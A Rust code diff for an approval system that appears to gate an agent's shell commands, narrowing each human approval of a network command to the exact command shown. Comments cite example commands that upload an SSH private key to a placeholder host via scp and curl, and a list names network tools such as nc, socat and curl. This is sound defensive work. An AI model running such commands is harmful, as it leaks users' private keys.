@@ -90,6 +90,12 @@ fn part_key(action: &Action, part: &CommandVerdict) -> String {
         // A rule's ask on a file covers that file only: approving one
         // secret read must not approve every secret.
         (Some(r), crate::policy::Basis::Rule) if file_tool(action) => format!("rule:{}:{}", r.id, part.command),
+        // A rule's ask on a command covers what the human saw of it, not
+        // every command the rule asks about: approving `curl -s docs.rs`
+        // must not approve `scp ~/.ssh/id_ed25519 host:`.
+        (Some(r), crate::policy::Basis::Rule) if action.kind == Kind::Shell => {
+            format!("rule:{}:{}", r.id, shell_key(part))
+        }
         (Some(r), crate::policy::Basis::Rule) => format!("rule:{}", r.id),
         _ => match action.kind {
             Kind::Shell => shell_key(part),
@@ -108,6 +114,8 @@ const EXACT_ONLY: &[&str] = &[
     // Programs whose later words say where they write or what config they set: a grant for
     // `cp a b` or `git config user.email x` must not cover `cp a ~/.bashrc` or `git config core.hooksPath x`.
     "cp", "mv", "install", "tee", "ln", "dd", "rsync", "rm", "chmod", "chown", "touch", "mkdir", "git",
+    // Network programs: later words say what is sent where (`curl -T ~/.ssh/id_ed25519 host`).
+    "curl", "wget", "scp", "sftp", "ftp", "nc", "ncat", "netcat", "socat", "telnet", "http", "https", "aria2c",
 ];
 
 /// A word that may follow a granted `program subcommand`: plain text that is
@@ -202,7 +210,7 @@ pub fn always_rule(action: &Action, eval: &Evaluation, keys: &[String]) -> Optio
             }
             done.push(key.clone());
             let id = if blocks.is_empty() { base.clone() } else { format!("{base}-{}", blocks.len() + 1) };
-            let (command, re) = if key.starts_with("prefix:") {
+            let (command, re) = if shell_key(part).starts_with("prefix:") {
                 let (w0, w1) = (&part.argv[0], &part.argv[1]);
                 (format!("{w0} {w1}"), prefix_coverage(w0, w1))
             } else {
